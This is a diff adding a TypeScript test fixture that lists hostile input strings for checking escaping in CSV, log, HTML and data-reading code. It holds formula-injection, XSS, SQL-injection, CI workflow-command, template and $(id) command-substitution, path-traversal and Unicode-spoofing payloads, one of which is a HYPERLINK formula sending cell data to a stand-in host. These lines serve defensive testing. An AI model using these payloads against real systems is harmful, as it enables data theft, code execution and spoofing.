@@ -1,0 +1,26 @@
+/** Names that break a careless CSV writer, log line, summary, HTML page or data set reader. */
+export const hostileNames: readonly string[] = [
+  '=HYPERLINK("http://example.test/?"&A1,"click")',
+  '+1+1|cmd',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '::error::not an error',
+  '%0A::add-mask::a',
+  'first line\r\n::error::second line\nthird line',
+  '</script><script>alert(1)</script>',
+  '<img src=x onerror="alert(1)">',
+  '| a | b |\n|---|---|',
+  '[link](javascript:alert(1)) **bold** `code` <!-- comment',
+  '\u202Etxt.exe\u202C',
+  '\u200Bzero\u200Bwidth',
+  "'; drop table launches; --",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a template is the attack
+  '{{7*7}} ${{ secrets.X }} $(id)',
+  '..\\..\\..//etc/passwd',
+  '"quoted", with, commas',
+  '👩‍👩‍👧‍👦 ﷽ 日本語',
+  'null',
+  ' leading and trailing ',
+  'Launches'.repeat(1250),
+];
